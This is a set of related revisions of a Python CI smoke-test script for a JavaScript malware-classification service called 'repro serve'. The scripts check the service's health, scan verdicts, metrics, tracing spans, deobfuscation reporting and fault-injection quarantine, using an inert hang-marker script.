        trace_check(client, source, extra[extra.index("--trace-out") + 1])
    kill_and_failover(client, source)
    print("cluster smoke: all checks passed")


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3:])
