"""CI smoke check for `repro serve`: healthz, one scan, metrics.

Usage: serve_smoke.py BASE_URL SCRIPT_PATH [--chaos] [--trace-out PATH] [--deobfuscate]

Speaks the v1 API through :class:`repro.client.ScanClient` — the same
typed client the load generator and cluster smoke use — so the smoke
exercises exactly the surface real callers integrate against.  Waits for
the daemon to come up, POSTs the script, and asserts a well-formed
verdict plus a healthy /v1/healthz and a non-empty /v1/metrics.
With ``--trace-out``, additionally POSTs with a fixed W3C ``traceparent``,
asserts the id rides end-to-end and that the stored trace at
``/v1/debug/traces/<id>`` contains every pipeline leaf stage, and writes
the span tree to PATH (uploaded as a workflow artifact).  With
``--chaos`` (daemon booted with ``REPRO_FAULT_INJECT=1`` and
``--timeout-s``), additionally POSTs a hang-marker script and asserts the
degraded-verdict + quarantine contract survives a worker kill.
Exits non-zero (with the failure printed) on any violation.
"""

import json
import pathlib
import sys
import time

# CI invokes this script directly (no PYTHONPATH); the repo layout is fixed.
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / "src"))

from repro.client import ScanAPIError, ScanClient  # noqa: E402

TRACE_ID = "c1" * 16
TRACEPARENT = f"00-{TRACE_ID}-{'ab' * 8}-01"


def wait_up(client, timeout_s=60.0):
    deadline = time.time() + timeout_s
    while True:
        try:
            return client.healthz()
        except ScanAPIError:
            if time.time() > deadline:
                raise SystemExit(f"daemon did not come up within {timeout_s:.0f}s")
            time.sleep(0.5)


def trace_check(client, source, out_path):
    """A fixed inbound traceparent must ride end-to-end and be recorded."""
    # Vary the source so the scan misses the feature cache — a cache hit
    # would legitimately skip the extraction/embedding spans.
    verdict = client.scan(source + "\n// trace probe", name="traced.js", traceparent=TRACEPARENT)
    assert verdict.trace_id == TRACE_ID, verdict.raw
    assert verdict.raw["trace"]["provenance"]["top_paths"], verdict.raw["trace"]

    stored = client.trace(TRACE_ID)
    names = {span["name"] for span in stored["spans"]}
    for stage in ("http.scan", "queue.wait", "batch.execute", "scan.batch", "script",
                  "path_extraction", "embedding", "feature_transform", "classify"):
        assert stage in names, (stage, sorted(names))
    assert stored["tree"] and stored["tree"][0]["name"] == "http.scan", stored["tree"]
    with open(out_path, "w", encoding="utf-8") as handle:
        json.dump(stored, handle, indent=2)
    print(f"trace: {stored['n_spans']} spans recorded under {TRACE_ID}, written to {out_path}")


def chaos(client):
    """A hanging script must cost its worker, not the daemon."""
    hang = "/* @repro-fault:hang */ var a = 1;"
    verdict = client.scan(hang, name="hang.js").raw
    assert verdict["status"] == "timeout", verdict
    assert verdict["degraded"] is True, verdict
    print("chaos verdict:", verdict["status"], verdict["fault"]["detail"])

    # The poison is quarantined: the rescan is served without a worker.
    verdict = client.scan(hang, name="hang-again.js").raw
    assert verdict["fault"].get("known") is True, verdict

    health = client.healthz()
    assert health["status"] == "ok", health
    assert health["quarantined"] >= 1, health
    assert health["breaker"]["state"] in ("closed", "half_open"), health

    text = client.metrics_text()
    assert 'repro_scan_failures_total{cause="timeout"}' in text, text[:400]
    print("chaos: daemon survived a hung worker; quarantine + breaker healthy")


def deobfuscate_check(client):
    """The per-request pre-pass flag must surface normalization provenance."""
    repo_root = pathlib.Path(__file__).resolve().parents[2]
    obfuscated = (repo_root / "examples" / "obfuscated" / "obfuscator_io.js").read_text()

    verdict = client.scan(obfuscated, name="obfuscator_io.js", deobfuscate=True)
    norm = verdict.normalization
    assert norm is not None, verdict.raw
    assert norm["changed"] is True, norm
    assert norm["rewrites"].get("string_array", 0) >= 1, norm

    # A traced flagged request carries the report in the verdict provenance.
    traceparent = f"00-{'d2' * 16}-{'cd' * 8}-01"
    traced = client.scan(obfuscated + "\n// deob probe", name="obf-traced.js",
                         traceparent=traceparent, deobfuscate=True)
    provenance = traced.raw["trace"]["provenance"]
    assert provenance["normalization"]["changed"] is True, provenance

    # Without the flag the same request is report-free.
    unflagged = client.scan(obfuscated, name="obfuscator_io.js")
    assert unflagged.normalization is None, unflagged.raw

    text = client.metrics_text()
    assert 'repro_deobfuscate_scripts_total{result="changed"}' in text, text[:400]
    print("deobfuscate: normalization report rode the verdict, provenance, and metrics")


def main(base_url, script_path, extra):
    client = ScanClient(base_url, timeout_s=60.0, retries=2)
    health = wait_up(client)
    assert health["status"] == "ok", health
    print("healthz:", health)

    with open(script_path, encoding="utf-8") as handle:
        source = handle.read()
    verdict = client.scan(source, name=script_path)
    print("verdict:", verdict.raw)
    assert verdict.verdict in ("benign", "malicious"), verdict.raw
    assert 0.0 <= verdict.probability <= 1.0, verdict.raw
    assert verdict.raw["path"] == script_path, verdict.raw
    assert verdict.model_fingerprint == health["model_fingerprint"], verdict.raw

    text = client.metrics_text()
    assert "repro_http_requests_total" in text, text[:400]
    assert "repro_serve_batches_total" in text, text[:400]
    print("metrics: ok ({} lines)".format(len(text.splitlines())))

    if "--trace-out" in extra:
        trace_check(client, source, extra[extra.index("--trace-out") + 1])
    if "--deobfuscate" in extra:
        deobfuscate_check(client)
    if "--chaos" in extra:
        chaos(client)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3:])
