"""CI smoke check for `repro serve`: healthz, one scan, metrics.

Usage: serve_smoke.py BASE_URL SCRIPT_PATH

Waits for the daemon to come up, POSTs the script, and asserts a
well-formed verdict plus a healthy /healthz and a non-empty /metrics.
Exits non-zero (with the failure printed) on any violation.
"""

import json
import sys
import time
import urllib.error
import urllib.request


def get(url):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, response.read()


def main(base_url, script_path):
    deadline = time.time() + 60
    while True:
        try:
            status, body = get(f"{base_url}/healthz")
            break
        except (urllib.error.URLError, ConnectionError):
            if time.time() > deadline:
                raise SystemExit("daemon did not come up within 60s")
            time.sleep(0.5)
    health = json.loads(body)
    assert status == 200 and health["status"] == "ok", health
    print("healthz:", health)

    with open(script_path, encoding="utf-8") as handle:
        source = handle.read()
    request = urllib.request.Request(
        f"{base_url}/scan",
        data=json.dumps({"source": source, "name": script_path}).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=60) as response:
        verdict = json.loads(response.read())
        assert response.status == 200, verdict
    print("verdict:", verdict)
    assert verdict["verdict"] in ("benign", "malicious"), verdict
    assert 0.0 <= verdict["probability"] <= 1.0, verdict
    assert verdict["path"] == script_path, verdict
    assert verdict["model_fingerprint"] == health["model_fingerprint"], verdict

    status, body = get(f"{base_url}/metrics")
    text = body.decode()
    assert status == 200 and "repro_http_requests_total" in text, text[:400]
    assert "repro_serve_batches_total" in text, text[:400]
    print("metrics: ok ({} lines)".format(len(text.splitlines())))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
