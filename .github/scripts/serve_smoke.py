"""CI smoke check for `repro serve`: healthz, one scan, metrics.

Usage: serve_smoke.py BASE_URL SCRIPT_PATH [--chaos]

Waits for the daemon to come up, POSTs the script, and asserts a
well-formed verdict plus a healthy /healthz and a non-empty /metrics.
With ``--chaos`` (daemon booted with ``REPRO_FAULT_INJECT=1`` and
``--timeout-s``), additionally POSTs a hang-marker script and asserts the
degraded-verdict + quarantine contract survives a worker kill.
Exits non-zero (with the failure printed) on any violation.
"""

import json
import sys
import time
import urllib.error
import urllib.request


def get(url):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, response.read()


def post_scan(base_url, source, name):
    request = urllib.request.Request(
        f"{base_url}/scan",
        data=json.dumps({"source": source, "name": name}).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=60) as response:
        return response.status, json.loads(response.read())


def chaos(base_url):
    """A hanging script must cost its worker, not the daemon."""
    hang = "/* @repro-fault:hang */ var a = 1;"
    status, verdict = post_scan(base_url, hang, "hang.js")
    assert status == 200, verdict
    assert verdict["status"] == "timeout", verdict
    assert verdict["degraded"] is True, verdict
    print("chaos verdict:", verdict["status"], verdict["fault"]["detail"])

    # The poison is quarantined: the rescan is served without a worker.
    status, verdict = post_scan(base_url, hang, "hang-again.js")
    assert status == 200 and verdict["fault"].get("known") is True, verdict

    status, body = get(f"{base_url}/healthz")
    health = json.loads(body)
    assert status == 200 and health["status"] == "ok", health
    assert health["quarantined"] >= 1, health
    assert health["breaker"]["state"] in ("closed", "half_open"), health

    status, body = get(f"{base_url}/metrics")
    text = body.decode()
    assert 'repro_scan_failures_total{cause="timeout"}' in text, text[:400]
    print("chaos: daemon survived a hung worker; quarantine + breaker healthy")


def main(base_url, script_path):
    deadline = time.time() + 60
    while True:
        try:
            status, body = get(f"{base_url}/healthz")
            break
        except (urllib.error.URLError, ConnectionError):
            if time.time() > deadline:
                raise SystemExit("daemon did not come up within 60s")
            time.sleep(0.5)
    health = json.loads(body)
    assert status == 200 and health["status"] == "ok", health
    print("healthz:", health)

    with open(script_path, encoding="utf-8") as handle:
        source = handle.read()
    status, verdict = post_scan(base_url, source, script_path)
    assert status == 200, verdict
    print("verdict:", verdict)
    assert verdict["verdict"] in ("benign", "malicious"), verdict
    assert 0.0 <= verdict["probability"] <= 1.0, verdict
    assert verdict["path"] == script_path, verdict
    assert verdict["model_fingerprint"] == health["model_fingerprint"], verdict

    status, body = get(f"{base_url}/metrics")
    text = body.decode()
    assert status == 200 and "repro_http_requests_total" in text, text[:400]
    assert "repro_serve_batches_total" in text, text[:400]
    print("metrics: ok ({} lines)".format(len(text.splitlines())))

    if "--chaos" in sys.argv[3:]:
        chaos(base_url)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2])
