"""CI smoke check for `repro serve`: healthz, one scan, metrics.

Usage: serve_smoke.py BASE_URL SCRIPT_PATH [--chaos] [--trace-out PATH]

Waits for the daemon to come up, POSTs the script, and asserts a
well-formed verdict plus a healthy /healthz and a non-empty /metrics.
With ``--trace-out``, additionally POSTs with a fixed W3C ``traceparent``,
asserts the id is echoed end-to-end and that the stored trace at
``/debug/traces/<id>`` contains every pipeline leaf stage, and writes the
span tree to PATH (uploaded as a workflow artifact).  With ``--chaos``
(daemon booted with ``REPRO_FAULT_INJECT=1`` and ``--timeout-s``),
additionally POSTs a hang-marker script and asserts the degraded-verdict
+ quarantine contract survives a worker kill.
Exits non-zero (with the failure printed) on any violation.
"""

import json
import sys
import time
import urllib.error
import urllib.request

TRACE_ID = "c1" * 16
TRACEPARENT = f"00-{TRACE_ID}-{'ab' * 8}-01"


def get(url):
    with urllib.request.urlopen(url, timeout=10) as response:
        return response.status, response.read()


def post_scan(base_url, source, name):
    request = urllib.request.Request(
        f"{base_url}/scan",
        data=json.dumps({"source": source, "name": name}).encode(),
        headers={"Content-Type": "application/json"},
    )
    with urllib.request.urlopen(request, timeout=60) as response:
        return response.status, json.loads(response.read())


def trace_check(base_url, source, out_path):
    """A fixed inbound traceparent must be echoed and fully recorded."""
    # Vary the source so the scan misses the feature cache — a cache hit
    # would legitimately skip the extraction/embedding spans.
    request = urllib.request.Request(
        f"{base_url}/scan",
        data=json.dumps({"source": source + "\n// trace probe", "name": "traced.js"}).encode(),
        headers={"Content-Type": "application/json", "traceparent": TRACEPARENT},
    )
    with urllib.request.urlopen(request, timeout=60) as response:
        verdict = json.loads(response.read())
        echoed = response.headers.get("X-Trace-Id")
    assert verdict["trace_id"] == TRACE_ID, verdict
    assert echoed == TRACE_ID, echoed
    assert verdict["trace"]["provenance"]["top_paths"], verdict["trace"]

    status, body = get(f"{base_url}/debug/traces/{TRACE_ID}")
    assert status == 200, body[:400]
    stored = json.loads(body)
    names = {span["name"] for span in stored["spans"]}
    for stage in ("http.scan", "queue.wait", "batch.execute", "scan.batch", "script",
                  "path_extraction", "embedding", "feature_transform", "classify"):
        assert stage in names, (stage, sorted(names))
    assert stored["tree"] and stored["tree"][0]["name"] == "http.scan", stored["tree"]
    with open(out_path, "w", encoding="utf-8") as handle:
        json.dump(stored, handle, indent=2)
    print(f"trace: {stored['n_spans']} spans recorded under {TRACE_ID}, written to {out_path}")


def chaos(base_url):
    """A hanging script must cost its worker, not the daemon."""
    hang = "/* @repro-fault:hang */ var a = 1;"
    status, verdict = post_scan(base_url, hang, "hang.js")
    assert status == 200, verdict
    assert verdict["status"] == "timeout", verdict
    assert verdict["degraded"] is True, verdict
    print("chaos verdict:", verdict["status"], verdict["fault"]["detail"])

    # The poison is quarantined: the rescan is served without a worker.
    status, verdict = post_scan(base_url, hang, "hang-again.js")
    assert status == 200 and verdict["fault"].get("known") is True, verdict

    status, body = get(f"{base_url}/healthz")
    health = json.loads(body)
    assert status == 200 and health["status"] == "ok", health
    assert health["quarantined"] >= 1, health
    assert health["breaker"]["state"] in ("closed", "half_open"), health

    status, body = get(f"{base_url}/metrics")
    text = body.decode()
    assert 'repro_scan_failures_total{cause="timeout"}' in text, text[:400]
    print("chaos: daemon survived a hung worker; quarantine + breaker healthy")


def main(base_url, script_path, extra):
    deadline = time.time() + 60
    while True:
        try:
            status, body = get(f"{base_url}/healthz")
            break
        except (urllib.error.URLError, ConnectionError):
            if time.time() > deadline:
                raise SystemExit("daemon did not come up within 60s")
            time.sleep(0.5)
    health = json.loads(body)
    assert status == 200 and health["status"] == "ok", health
    print("healthz:", health)

    with open(script_path, encoding="utf-8") as handle:
        source = handle.read()
    status, verdict = post_scan(base_url, source, script_path)
    assert status == 200, verdict
    print("verdict:", verdict)
    assert verdict["verdict"] in ("benign", "malicious"), verdict
    assert 0.0 <= verdict["probability"] <= 1.0, verdict
    assert verdict["path"] == script_path, verdict
    assert verdict["model_fingerprint"] == health["model_fingerprint"], verdict

    status, body = get(f"{base_url}/metrics")
    text = body.decode()
    assert status == 200 and "repro_http_requests_total" in text, text[:400]
    assert "repro_serve_batches_total" in text, text[:400]
    print("metrics: ok ({} lines)".format(len(text.splitlines())))

    if "--trace-out" in extra:
        trace_check(base_url, source, extra[extra.index("--trace-out") + 1])
    if "--chaos" in extra:
        chaos(base_url)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], sys.argv[3:])
